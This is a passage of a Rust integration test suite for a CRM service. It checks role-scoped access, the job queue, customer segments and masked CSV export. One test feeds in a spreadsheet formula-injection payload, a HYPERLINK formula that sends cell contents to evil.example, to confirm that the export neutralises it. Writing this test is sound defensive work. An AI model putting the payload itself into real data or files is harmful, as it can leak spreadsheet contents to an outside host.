    assert_eq!(s, StatusCode::UNPROCESSABLE_ENTITY, "{e}");
    assert_eq!(e["fields"][0]["field"], "subject");
    let (s, t) = east
        .post(
            &format!("/customers/{id}/tasks"),
            json!({"title": "寄样品", "due_at": "2030-01-01T01:00:00Z"}),
        )
        .await;
    assert_eq!(s, StatusCode::CREATED, "{t}");
    let (_, tl) = east
        .get(&format!("/customers/{id}/timeline?limit=10"))
        .await;
    let kinds: Vec<&str> = tl
        .as_array()
        .unwrap()
        .iter()
        .map(|x| x["kind"].as_str().unwrap())
        .collect();
    assert_eq!(kinds, vec!["task", "interaction"]);
    // The first entry's cursor pages to the second; a mangled cursor is a named 400.
    let cursor = tl[0]["cursor"].as_str().unwrap().to_string();
    let (s, older) = east
        .get(&format!(
            "/customers/{id}/timeline?limit=10&cursor={cursor}"
        ))
        .await;
    assert_eq!(s, StatusCode::OK, "{older}");
    assert_eq!(older.as_array().unwrap().len(), 1);
    assert_eq!(older[0]["kind"], "interaction");
    let (s, bad) = east
        .get(&format!("/customers/{id}/timeline?cursor=yesterday"))
        .await;
    assert_eq!(s, StatusCode::BAD_REQUEST, "{bad}");
    assert_eq!(bad["fields"][0]["field"], "cursor", "{bad}");
    assert_eq!(bad["fields"][0]["code"], "invalid_cursor", "{bad}");
    let (_, mine) = east.get("/tasks").await;
    assert_eq!(mine.as_array().unwrap().len(), 1);
    // Filters, the total beside a short page, and a bad filter value named.
    let res = east
        .raw(reqwest::Method::GET, "/tasks?limit=1&q=%E6%A0%B7")
        .send()
        .await
        .unwrap();
    assert_eq!(res.headers()["x-total-count"], "1");
    let (_, none) = east.get("/tasks?due_before=2029-01-01T00:00:00Z").await;
    assert_eq!(none.as_array().unwrap().len(), 0);
    let (_, theirs) = west.get("/tasks?who=all").await;
    assert_eq!(theirs.as_array().unwrap().len(), 0);
    // The customer list counts its matches when asked.
    let (s, kind, _) = east.download("/customers?limit=1").await;
    assert_eq!((s, kind.as_str()), (StatusCode::OK, "application/json"));
    let res = east
        .raw(reqwest::Method::GET, "/customers?limit=1&total=true")
        .send()
        .await
        .unwrap();
    assert_eq!(res.headers()["x-total-count"], "1");
    assert_eq!(res.headers()["x-total-count-capped"], "false");
    let res = west
        .raw(reqwest::Method::GET, "/customers?total=true")
        .send()
        .await
        .unwrap();
    assert_eq!(
        res.headers()["x-total-count"],
        "0",
        "another team counts none of them"
    );
    let (s, e) = east.get("/tasks?status=later").await;
    assert_eq!(s, StatusCode::BAD_REQUEST, "{e}");
    assert_eq!(e["fields"][0]["field"], "status");
    let (s, _) = east.get("/tasks?limit=0").await;
    assert_eq!(s, StatusCode::BAD_REQUEST);
    let tid = t["id"].as_i64().unwrap();
    let (s, done) = east
        .patch(
            &format!("/tasks/{tid}"),
            json!({"version": 1, "done": true}),
        )
        .await;
    assert_eq!(s, StatusCode::OK, "{done}");
    assert!(done["done_at"].is_string());
    let (s, _) = east
        .patch(
            &format!("/tasks/{tid}"),
            json!({"version": 1, "done": false}),
        )
        .await;
    assert_eq!(s, StatusCode::CONFLICT);
    // Another team: not found, for reads and writes.
    for (s, _) in [
        west.get(&format!("/customers/{id}/timeline")).await,
        west.post(
            &format!("/customers/{id}/interactions"),
            json!({"channel": "phone", "subject": "x"}),
        )
        .await,
        west.patch(
            &format!("/tasks/{tid}"),
            json!({"version": 2, "done": false}),
        )
        .await,
    ] {
        assert_eq!(s, StatusCode::NOT_FOUND);
    }
}

async fn score_refresh_job_on_demand(app: &TestApp) {
    let manager = app.user("boss", Role::Manager, None).await;
    let rep = app.user("rep", Role::Sales, Some("East")).await;
    let c = create(&rep, json!({"kind": "individual", "name": "冯丽"})).await;
    let id = c["id"].as_i64().unwrap();
    for (days, amount) in [(300, 5000), (200, 8000), (100, 12000), (10, 9000)] {
        let at = (chrono::Utc::now() - chrono::Duration::days(days)).to_rfc3339();
        let (s, o) = rep
            .post("/orders", json!({"customer_id": id, "ordered_at": at, "channel": "store", "lines": [{"sku": "TEA", "quantity": 1, "unit_price_minor": amount}]}))
            .await;
        assert_eq!(s, StatusCode::CREATED, "{o}");
    }
    let (s, _) = rep.post("/scores/refresh", json!(null)).await;
    assert_eq!(s, StatusCode::FORBIDDEN, "sales may not start the job");
    let (s, st) = manager.post("/scores/refresh", json!(null)).await;
    assert_eq!(s, StatusCode::ACCEPTED, "{st}");
    assert_eq!(st["requested_by"], "boss");
    app.state.jobs.wait_idle().await;
    let (_, st) = rep.get("/scores/status").await;
    assert_eq!(st["running"], false);
    assert_eq!(st["customers"], 1, "{st}");
    assert_eq!(st["orders"], 4);
    assert!(st["error"].is_null(), "{st}");
    let score = app.db.store.customer_score(id).await.unwrap().unwrap();
    assert_eq!((score.frequency, score.monetary_minor), (4, 34000));
    let (_, log) = manager.get("/audit?action=refresh_scores").await;
    assert_eq!(log["items"][0]["actor_name"], "boss");
    assert_eq!(log["items"][0]["detail"]["customers"], 1);

    // The queue itself is admins' (ManageJobs): a permission added after the manager role was
    // written is not the manager's.
    let (s, _) = manager.get("/jobs").await;
    assert_eq!(s, StatusCode::FORBIDDEN, "managers lack ManageJobs");
    let admin = app.user("ops", Role::Admin, None).await;
    let (s, jobs) = admin.get("/jobs?kind=scores.refresh&state=done").await;
    assert_eq!(s, StatusCode::OK, "{jobs}");
    let job = &jobs[0];
    assert_eq!(job["state"], "done");
    assert_eq!(job["requested_by_name"], "boss");
    assert_eq!(job["result"]["customers"], 1);
    let jid = job["id"].as_i64().unwrap();
    let (s, one) = admin.get(&format!("/jobs/{jid}")).await;
    assert_eq!((s, one["id"].as_i64()), (StatusCode::OK, Some(jid)));
    let (s, e) = admin.get("/jobs?state=sleeping").await;
    assert_eq!(s, StatusCode::BAD_REQUEST, "{e}");
    // A done job can be neither retried nor cancelled; the refusal names why.
    let (s, e) = admin.post(&format!("/jobs/{jid}/retry"), json!(null)).await;
    assert_eq!(s, StatusCode::UNPROCESSABLE_ENTITY, "{e}");
    assert_eq!(e["fields"][0]["code"], "job_state", "{e}");
    let (s, _) = admin
        .post(&format!("/jobs/{jid}/cancel"), json!(null))
        .await;
    assert_eq!(s, StatusCode::UNPROCESSABLE_ENTITY);
    let (s, _) = admin.post("/jobs/999999/retry", json!(null)).await;
    assert_eq!(s, StatusCode::NOT_FOUND);
    // A failed job is retried and runs again.
    app.db
        .execute(&format!(
            "UPDATE jobs SET state = 'failed', last_error = 'disk full' WHERE id = {jid}"
        ))
        .await;
    let (s, again) = admin.post(&format!("/jobs/{jid}/retry"), json!(null)).await;
    assert_eq!(s, StatusCode::OK, "{again}");
    assert_eq!(again["state"], "queued");
    app.state.jobs.wait_idle().await;
    let (_, done) = admin.get(&format!("/jobs/{jid}")).await;
    assert_eq!(done["state"], "done", "{done}");
    assert_eq!(done["attempts"], 2, "{done}");
    let (_, log) = admin.get("/audit?action=retry_job").await;
    assert_eq!(log["items"][0]["actor_name"], "ops", "{log}");
    assert_eq!(log["items"][0]["entity_id"].as_i64(), Some(jid));
}

async fn segments_are_sized_listed_and_exported_within_scope(app: &TestApp) {
    let admin = app.user("admin", Role::Admin, None).await;
    let marketing = app.user("mkt", Role::Marketing, None).await;
    let east = app.user("east1", Role::Sales, Some("East")).await;
    let viewer = app.user("viewer", Role::Viewer, None).await;
    create(&east, json!({"kind": "individual", "name": "东一", "city": "上海", "id_number": "11010519491231002X"})).await;
    create(
        &admin,
        json!({"kind": "individual", "name": "总部一", "city": "上海"}),
    )
    .await;
    create(
        &admin,
        json!({"kind": "individual", "name": "总部二", "city": "北京"}),
    )
    .await;
    // A bad clause is a 422 naming it, in the caller's language.
    let (s, v) = marketing
        .clone()
        .lang("zh-CN")
        .post(
            "/segments",
            json!({"name": "上海", "rule": {"clauses": [
                {"field": "city", "op": "eq", "value": "上海"},
                {"field": "city", "op": "between", "value": "x"}]}}),
        )
        .await;
    assert_eq!(s, StatusCode::UNPROCESSABLE_ENTITY, "{v}");
    assert_eq!(v["fields"][0]["field"], "rule.clauses[1].op", "{v}");
    assert_eq!(v["fields"][0]["message"], "这个字段不能用这个条件。", "{v}");
    let (s, _) = viewer
        .post("/segments", json!({"name": "x", "rule": {"clauses": []}}))
        .await;
    assert_eq!(s, StatusCode::FORBIDDEN, "viewers do not manage segments");
    let rule = json!({"clauses": [{"field": "city", "op": "eq", "value": "上海"}]});
    let (s, seg) = marketing
        .post("/segments", json!({"name": "上海客户", "rule": rule}))
        .await;
    assert_eq!(s, StatusCode::CREATED, "{seg}");
    assert_eq!(seg["size"], 2);
    let id = seg["id"].as_i64().unwrap();
    let (s, _) = marketing
        .post("/segments", json!({"name": "上海客户", "rule": rule}))
        .await;
    assert_eq!(s, StatusCode::CONFLICT, "names are unique");
    // Sizes and members are the reader's: the rep sees his own customer only.
    let (_, p) = east.post("/segments/preview", json!({"rule": rule})).await;
    assert_eq!(p["size"], 1);
    let (_, one) = east.get(&format!("/segments/{id}")).await;
    assert_eq!(one["size"], 1);
    // The list reads the sizes the background job counted for each reader scope, with when.
    let listed = |v: &Value| -> Value {
        v.as_array()
            .unwrap()
            .iter()
            .find(|x| x["id"].as_i64() == Some(id))
            .cloned()
            .unwrap()
    };
    // Saving queued the count; the worker runs it.
    app.state.jobs.wait_idle().await;
    for (reader, size) in [(&east, 1), (&admin, 2)] {
        let (_, list) = reader.get("/segments").await;
        assert_eq!(listed(&list)["size"], size, "{list}");
        assert!(listed(&list)["size_counted_at"].is_string(), "{list}");
    }
    let (_, list) = east.get(&format!("/customers?segment_id={id}")).await;
    assert_eq!(list["items"].as_array().unwrap().len(), 1);
    assert_eq!(list["items"][0]["name"], "东一");
    let (_, list) = admin
        .get(&format!("/customers?segment_id={id}&sort=name"))
        .await;
    assert_eq!(list["items"].as_array().unwrap().len(), 2);
    let (s, v) = admin.get("/customers?segment_id=999999").await;
    assert_eq!(s, StatusCode::BAD_REQUEST, "{v}");
    assert_eq!(v["fields"][0]["field"], "segment_id");
    // An ad-hoc rule narrows the list, alone or on top of the saved segment; a bad one names
    // its clause.
    let enc = |r: serde_json::Value| urlencode(&r.to_string());
    let names = |v: &Value| -> Vec<String> {
        v["items"]
            .as_array()
            .unwrap()
            .iter()
            .map(|c| c["name"].as_str().unwrap().to_string())
            .collect()
    };
    let not_shanghai = json!({"clauses": [{"field": "city", "op": "ne", "value": "上海"}]});
    let (s, alone) = admin
        .get(&format!("/customers?rule={}", enc(not_shanghai.clone())))
        .await;
    assert_eq!(s, StatusCode::OK, "{alone}");
    assert_eq!(names(&alone), ["总部二"]);
    let (s, both) = admin
        .get(&format!(
            "/customers?segment_id={id}&rule={}",
            enc(not_shanghai)
        ))
        .await;
    assert_eq!(s, StatusCode::OK, "{both}");
    assert!(names(&both).is_empty(), "{both}");
    let shanghai_people =
        json!({"clauses": [{"field": "kind", "op": "eq", "value": "individual"}]});
    let (_, both) = east
        .get(&format!(
            "/customers?segment_id={id}&rule={}",
            enc(shanghai_people)
        ))
        .await;
    assert_eq!(names(&both), ["东一"], "within the reader's scope");
    let (s, v) = admin
        .get(&format!(
            "/customers?rule={}",
            enc(json!({"clauses": [{"field": "clv", "op": "gte", "value": "lots"}]}))
        ))
        .await;
    assert_eq!(s, StatusCode::BAD_REQUEST, "{v}");
    assert_eq!(v["fields"][0]["field"], "rule.clauses[0].value", "{v}");
    let (s, v) = admin.get("/customers?rule=%7Bnot%20json").await;
    assert_eq!(s, StatusCode::BAD_REQUEST, "{v}");
    assert_eq!(v["fields"][0]["field"], "rule", "{v}");
    // Export: marketing gets a CSV with masked ID numbers; the export is audited with its rows.
    let (s, kind, body) = marketing.download(&format!("/segments/{id}/export")).await;
    assert_eq!(s, StatusCode::OK);
    assert!(kind.starts_with("text/csv"), "{kind}");
    let body = String::from_utf8(body).unwrap();
    let lines: Vec<&str> = body.trim_start_matches('\u{feff}').lines().collect();
    assert_eq!(lines.len(), 3, "{body}");
    assert!(body.contains("110***********002X") && !body.contains("11010519491231002X"));
    let (s, _) = viewer.get(&format!("/segments/{id}/export")).await;
    assert_eq!(s, StatusCode::FORBIDDEN, "viewers do not export");
    let (_, log) = admin
        .get(&format!(
            "/audit?entity=segment&entity_id={id}&action=export"
        ))
        .await;
    assert_eq!(log["items"][0]["detail"]["rows"], 2, "{log}");
    assert_eq!(log["items"][0]["detail"]["id_numbers"], "masked", "{log}");
    // Change with the version read; a stale version is a 409; delete.
    let (s, v) = marketing
        .send(
            marketing
                .raw(reqwest::Method::PUT, &format!("/segments/{id}"))
                .json(&json!({"version": 1, "name": "沪上客户", "rule": rule})),
        )
        .await;
    assert_eq!(s, StatusCode::OK, "{v}");
    assert_eq!(
        (v["name"].as_str(), v["version"].as_i64()),
        (Some("沪上客户"), Some(2))
    );
    let stale = marketing
        .raw(reqwest::Method::PUT, &format!("/segments/{id}"))
        .json(&json!({"version": 1, "name": "x", "rule": rule}))
        .send()
        .await
        .unwrap();
    assert_eq!(stale.status(), StatusCode::CONFLICT);
    let (s, _) = marketing.delete(&format!("/segments/{id}?version=2")).await;
    assert_eq!(s, StatusCode::NO_CONTENT);
    let (_, all) = marketing.get("/segments").await;
    assert_eq!(all, json!([]));
}

/// A name, tag or city that starts like a formula reaches the CSV as text (prefixed with `'`),
/// while a phone number in display form (`+852 …`) reads as typed.
async fn exported_cells_cannot_run_as_formulas(app: &TestApp) {
    let admin = app.user("admin", Role::Admin, None).await;
    create(
        &admin,
        json!({"kind": "individual", "name": "=HYPERLINK(\"http://evil.example/?\"&A1)",
               "city": "广州", "province": "@SUM(A1)", "tags": ["-2+3"],
               "contact_points": [{"kind": "mobile", "value": "+852 2123 4567"}]}),
    )
    .await;
    let (s, seg) = admin
        .post(
            "/segments",
            json!({"name": "广州", "rule": {"clauses": [{"field": "city", "op": "eq", "value": "广州"}]}}),
        )
        .await;
    assert_eq!(s, StatusCode::CREATED, "{seg}");
    let body = admin
        .raw(
            reqwest::Method::GET,
            &format!("/segments/{}/export", seg["id"]),
        )
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    let row = body.lines().nth(1).expect("one customer row");
    assert!(
        row.contains("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1)\""),
        "{row}"
    );
    assert!(row.contains(",'@SUM(A1),"), "{row}");
    assert!(row.contains(",'-2+3,"), "{row}");
    assert!(row.contains(",+852 2123 4567,"), "{row}");
}
